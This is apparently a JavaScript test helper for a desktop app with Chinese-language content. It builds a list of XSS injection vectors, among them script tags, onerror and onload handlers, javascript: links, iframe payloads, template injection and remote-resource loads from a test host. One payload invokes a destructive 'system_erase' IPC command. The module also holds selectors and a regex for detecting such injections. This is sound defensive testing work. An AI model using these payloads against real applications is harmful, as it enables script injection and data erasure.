// What somebody could write into a guide, a choice, a name or the county's words so that it does more than stand there, and how it
// would be noticed if it did. Each vector carries its own word, so that it can be found again on the page.

/** What a script that came through would leave behind. */
export const MARK = '__came_through';

/** Every vector: name, text. `host` is where it would call to; nobody but the test listens there. */
export function vectors(host) {
  const mark = (name) => `window.${MARK}=(window.${MARK}||'')+' ${name}'`;
  const call = `window.__TAURI_INTERNALS__?.invoke('ipc',{command:'system_erase',request:{}})`;
  return [
    ['script', `<script>${mark('script')};${call}</script>`],
    ['remote-script', `<script src="${host}/remote-script.js"></script>`],
    ['img', `<img src=x onerror="${mark('img')};${call}">`],
    ['remote-img', `<img src="${host}/remote-img.png">`],
    ['svg', `<svg onload="${mark('svg')}"><script>${mark('svg-script')}</script></svg>`],
    ['link', `<a id="bad-link" href="javascript:${mark('link')}">点这里</a>`],
    ['bare-link', `javascript:${mark('bare')}`],
    ['markdown', `[点这里](javascript:${mark('markdown')}) ![图](${host}/markdown.png)`],
    ['data', `<iframe src="data:text/html,<script>parent.postMessage('${MARK} data','*')</script>"></iframe>`],
    ['srcdoc', `<iframe srcdoc="<script>parent.${MARK}=(parent.${MARK}||'')+' srcdoc'</script>"></iframe>`],
    ['object', `<object data="${host}/object"></object><embed src="${host}/embed">`],
    ['css', `<style>body{background:url(${host}/css.png)}</style>`],
    ['css-attribute', `<b style="background:url(${host}/attribute.png)">粗</b>`],
    ['sheet', `<link rel="stylesheet" href="${host}/sheet.css">`],
    ['form', `<form action="${host}/form"><button id="bad-form">交</button></form>`],
    ['base', `<base href="${host}/">`],
    ['quotes', `"><img src=x onerror="${mark('quotes')}"> ' onmouseover='${mark('mouse')}' x='`],
    ['braces', `{{constructor.constructor("${mark('braces')}")()}} {@html "<i>"}`],
    ['details', `<details open ontoggle="${mark('details')}"><summary>看</summary></details>`],
  ];
}

/** Signs that turn around what stands behind them: `gpj.exe` reads `exe.jpg`. */
export const TURNING = /[\u202a-\u202e\u2066-\u2069]/u;

/** Elements that only a vector would bring: none of ours looks so. */
export const STRANGERS = [
  'body script', 'iframe', 'object', 'embed', 'base', 'form[action^="http"]', 'body style', 'body link', 'a[href^="javascript:" i]', '[onerror]', '[onload]',
  '[onmouseover]', '[ontoggle]', '[srcdoc]', 'img[src^="http://127.0.0.1"]:not([src^="blob:"])', '#bad-link', '#bad-form', 'svg script',
].join(', ');

/** Writes the vectors into every text that people read, one after the other, behind what stands there. */
export function poison(value, all, counter = { at: 0 }) {
  if (Array.isArray(value)) return value.map((each) => poison(each, all, counter));
  if (value === null || typeof value !== 'object') return value;
  if (typeof value['zh-Hans'] === 'string') return texts(value, all[counter.at++ % all.length][1]);
  return Object.fromEntries(Object.entries(value).map(([key, each]) => [key, poison(each, all, counter)]));
}

const texts = (value, vector) => Object.fromEntries(Object.entries(value).map(([language, text]) => [language, `${text} ${vector}`]));
